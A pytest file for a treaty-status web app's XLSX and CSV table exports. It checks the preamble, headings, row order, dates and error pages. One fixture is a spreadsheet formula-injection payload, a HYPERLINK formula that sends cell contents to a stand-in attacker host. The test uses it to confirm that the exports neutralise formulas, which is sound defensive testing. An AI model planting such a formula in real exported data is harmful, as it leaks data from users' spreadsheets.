"""The status table as a delegation downloads it: /status/table.xlsx and .csv (and an
instrument's /instruments/<code>/table.xlsx and .csv) give the rows on screen, one per
participant, with the date, the filters and the citation above them."""

import csv
import io
from datetime import date, datetime

import pytest
from bs4 import BeautifulSoup
from openpyxl import load_workbook

from instruments import selectors
from instruments.models import Instrument
from instruments.services import action_record
from states.models import Participant
from tests.factories import participant

pytestmark = pytest.mark.usefixtures("real_data")

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
INSTRUMENT_COLUMNS = ["Signature", "Consent", "Kind", "In force", "Status"]


def soup(client, url: str) -> BeautifulSoup:
    response = client.get(url)
    assert response.status_code == 200, response.content[:1000]
    return BeautifulSoup(response.content.decode(), "html.parser")


def workbook(client, url: str):
    response = client.get(url)
    assert response.status_code == 200, response.content[:1000]
    assert response["Content-Type"] == XLSX
    return response, load_workbook(io.BytesIO(response.content))


def csv_lines(client, url: str) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200, response.content[:1000]
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def lines_of(sheet) -> list[list]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def preamble(lines: list[list]) -> dict:
    """The labelled lines above the headings: {"As at": ..., "Cite as": ...}."""
    blank = next(n for n, line in enumerate(lines) if not any(line))
    return {line[0]: line[1] for line in lines[1:blank] if line[0]}


def table_of(lines: list[list]) -> tuple[list, list[list]]:
    blank = next(n for n, line in enumerate(lines) if not any(line))
    headings = [h for h in lines[blank + 1] if h]
    return headings, [line[: len(headings)] for line in lines[blank + 2 :]]


def page_rows(html: BeautifulSoup) -> list[str]:
    return [a.get_text() for a in html.select(".status-table tbody th a")]


def test_the_xlsx_is_the_status_table_on_screen_one_row_per_participant(client):
    query = "as_of=2007-06-30&osce_role=participating&view=detailed"
    html = soup(client, f"/status/?{query}")
    response, book = workbook(client, f"/status/table.xlsx?{query}")
    assert response["Content-Disposition"] == (
        'attachment; filename="untoc-status-2007-06-30.xlsx"'
    )
    sheet = book.active
    assert sheet.title == "Status 2007-06-30"
    lines = lines_of(sheet)
    assert lines[0][0] == (
        "Status of the UN Convention against Transnational Organized Crime and its Protocols: "
        "OSCE participating States, as at 30 June 2007"
    )
    above = preamble(lines)
    assert above["As at"] == datetime(2007, 6, 30)  # a date, not text
    assert above["Participants"] == "OSCE participating States"
    assert above["Instruments"] == (
        "Convention, Trafficking in Persons Protocol, Smuggling of Migrants Protocol and "
        "Firearms Protocol"
    )
    assert above["Status"] == "any"
    assert above["Sorted by"] == "name, A to Z"
    assert above["Data currency"].startswith("Convention and Trafficking in Persons Protocol:")
    assert above["Data currency"] in " ".join(html.select_one(".currency").get_text().split())
    # The citation is the page's, word for word, with the page's permalink.
    assert above["Cite as"] == " ".join(html.select_one("#citation-text").get_text().split())
    assert above["Permalink"] == html.select_one("a.permalink")["href"]

    headings, rows = table_of(lines)
    assert headings[:7] == [
        "Participant",
        "Code",
        "Convention — Signature",
        "Convention — Consent",
        "Convention — Kind",
        "Convention — In force",
        "Convention — Status",
    ]
    assert headings[-1] == "Firearms Protocol — Status"
    assert len(headings) == 2 + 4 * len(INSTRUMENT_COLUMNS)
    assert [row[0] for row in rows] == page_rows(html)

    # Germany's row says what the page says, dates as dates.
    germany = next(row for row in rows if row[1] == "DEU")
    page_row = next(r for r in html.select(".status-table tbody tr") if "DEU" in r.th.get_text())
    page_words = [td.select_one(".st-word").get_text() for td in page_row.select("td")]
    assert [germany[2 + 5 * n + 4] for n in range(4)] == page_words
    matrix = selectors.status_matrix(
        as_of=date(2007, 6, 30), participants=Participant.objects.filter(iso3="DEU")
    )
    pk = Participant.objects.get(iso3="DEU").pk
    for n, instrument in enumerate(matrix.instruments):
        status = matrix.status(pk, instrument.code)
        signature, consent = germany[2 + 5 * n], germany[3 + 5 * n]
        assert (signature.date() if signature else None) == status.signature_date
        assert (consent.date() if consent else None) == status.consent_date
    assert germany[2] == datetime(2000, 12, 12)  # the Convention, signed in Palermo
    assert sheet.freeze_panes == f"B{len(above) + 4}"


def test_the_csv_keeps_the_pages_filters_and_order(client):
    query = "as_of=2010-01-01&instrument=som&state=DEU,AUT,FRA&ordering=-consent_date"
    html = soup(client, f"/status/?{query}")
    lines = csv_lines(client, f"/status/table.csv?{query}")
    assert lines[0][0].endswith(
        "OSCE participating States and Partners for Co-operation, as at 1 January 2010"
    )
    above = preamble(lines)
    assert above["As at"] == "2010-01-01"
    assert above["Instruments"] == "Smuggling of Migrants Protocol"
    assert above["Codes"] == "DEU, AUT, FRA"
    assert above["Sorted by"] == "consent date, latest first"
    headings, rows = table_of(lines)
    assert headings == ["Participant", "Code"] + [
        f"Smuggling of Migrants Protocol — {c}" for c in INSTRUMENT_COLUMNS
    ]
    on_screen = [code.get_text() for code in html.select(".status-table tbody th .code")]
    assert [row[1] for row in rows] == ["AUT", "DEU", "FRA"] == on_screen
    germany = rows[1]
    assert germany[3] == "2006-06-14"  # consent: ratified 14 June 2006
    assert germany[4] == "Ratification"


def test_a_status_filter_shows_in_the_lines_above_and_keeps_the_pages_rows(client):
    query = "osce_role=participating&instrument=som&status=not_party"
    html = soup(client, f"/status/?{query}")
    lines = csv_lines(client, f"/status/table.csv?{query}")
    assert preamble(lines)["Status"] == "not a party (signatory, no action or denounced)"
    _, rows = table_of(lines)
    assert rows
    assert [row[0] for row in rows] == page_rows(html)
    assert all(not row[-1].startswith("Party") for row in rows)


def test_an_instrument_pages_table_downloads_as_the_depositary_lists_it(client):
    query = "as_of=2014-07-10&osce_role=any"
    html = BeautifulSoup(client.get(f"/instruments/fir/?{query}").content, "html.parser")
    _, book = workbook(client, f"/instruments/fir/table.xlsx?{query}")
    sheet = book.active
    assert sheet.title == "Firearms Protocol 2014-07-10"
    lines = lines_of(sheet)
    assert lines[0][0].startswith("Protocol against the Illicit Manufacturing of and Trafficking")
    headings, rows = table_of(lines)
    assert headings[2:] == [f"Firearms Protocol — {c}" for c in INSTRUMENT_COLUMNS]
    on_screen = [a.get_text() for a in html.select("table.depositary tbody th a")]
    assert [row[0] for row in rows] == on_screen  # only those that signed or consented
    azerbaijan = next(row for row in rows if row[1] == "AZE")
    assert azerbaijan[3] == datetime(2004, 12, 3)
    assert azerbaijan[4] == "Accession (a)"


def test_the_pages_link_their_table_downloads_with_their_query(client):
    html = soup(client, "/status/?as_of=2007-06-30&osce_role=participating&ordering=-status:fir")
    links = {a.get_text(): a["href"] for a in html.select(".downloads a")}
    assert links["Excel (XLSX)"] == (
        "/status/table.xlsx?as_of=2007-06-30&osce_role=participating&ordering=-status%3Afir"
    )
    assert links["CSV"] == (
        "/status/table.csv?as_of=2007-06-30&osce_role=participating&ordering=-status%3Afir"
    )
    # The long machine format stays: the API's export, one row per participant and instrument.
    assert links["CSV, one row per participant and instrument"].startswith(
        "/api/v1/status/?format=csv&as_of=2007-06-30"
    )
    html = soup(client, "/instruments/tip/?as_of=2007-06-30")
    links = {a.get_text(): a["href"] for a in html.select(".downloads a")}
    assert links["Excel (XLSX)"] == "/instruments/tip/table.xlsx?as_of=2007-06-30&osce_role=osce"


def test_a_formula_typed_as_a_name_arrives_as_text(client):
    who = participant(name=HYPERLINK, osce_role=Participant.OsceRole.NONE)
    action_record(
        participant=who,
        instrument=Instrument.objects.get(code="untoc"),
        kind="signature",
        date=date(2001, 1, 10),
        source="test fixture",
    )
    lines = csv_lines(client, "/status/table.csv?osce_role=any&state=SSD")
    _, rows = table_of(lines)
    assert rows[0][0] == "'" + HYPERLINK
    assert rows[0][2] == "2001-01-10"

    response, book = workbook(client, "/status/table.xlsx?osce_role=any&state=SSD")
    sheet = book.active
    _, rows = table_of(lines_of(sheet))
    assert rows[0][0] == HYPERLINK  # the exact text, shown as typed
    name = next(cell for row in sheet.iter_rows() for cell in row if cell.value == HYPERLINK)
    assert name.data_type == "s"  # not "f": nothing is computed
    assert name.quotePrefix
    from zipfile import ZipFile

    with ZipFile(io.BytesIO(response.content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_refused_parameter_gets_the_pages_400(client, fmt):
    for query in ("as_of=1999-02-30", "as_of=1990-01-01", "status=elsewhere"):
        page = client.get(f"/status/?{query}")
        download = client.get(f"/status/table.{fmt}?{query}")
        assert page.status_code == download.status_code == 400
        assert download["Content-Type"].startswith("text/html")
        errors = BeautifulSoup(download.content, "html.parser").select(".error-summary li")
        assert errors
        assert [e.get_text(" ", strip=True) for e in errors] == [
            e.get_text(" ", strip=True)
            for e in BeautifulSoup(page.content, "html.parser").select(".error-summary li")
        ]
    response = client.get(f"/instruments/fir/table.{fmt}?as_of=2000-01-01")
    assert response.status_code == 400
    assert b"adopted" in response.content
    assert b'href="/instruments/fir/"' in response.content  # start over on the page


def test_an_unknown_instrument_or_format_is_not_found(client):
    assert client.get("/instruments/xyz/table.csv").status_code == 404
    assert client.get("/status/table.pdf").status_code == 404


def test_a_status_word_for_each_status_is_the_pages(client):
    """The Status column words every status as the page's detailed cells do."""
    lines = csv_lines(client, "/status/table.csv?osce_role=any&instrument=fir")
    _, rows = table_of(lines)
    html = soup(client, "/status/?osce_role=any&instrument=fir&view=detailed")
    words = [td.select_one(".st-word").get_text() for td in html.select(".status-table tbody td")]
    assert [row[-1].split(", effective")[0] for row in rows] == words
    assert {w.split(",")[0] for w in words} >= {"Party", "Signatory", "No action on record"}


@pytest.mark.parametrize(
    ("words", "suffix", "expected"),
    [
        ("Status", "2007-06-30", "Status 2007-06-30"),
        ("Smuggling of Migrants Protocol", "2010-01-01", "Smuggling of Migrant 2010-01-01"),
        ("A/B: C[D]*?", "", "A B C D"),
        ("'quoted'", "", "quoted"),
    ],
)
def test_a_sheet_name_is_one_excel_accepts(words, suffix, expected):
    from core.rest.exports import sheet_name

    name = sheet_name(words, suffix)
    assert name == expected
    assert len(name) <= 31
    assert not set(name) & set("\\/?*[]:")
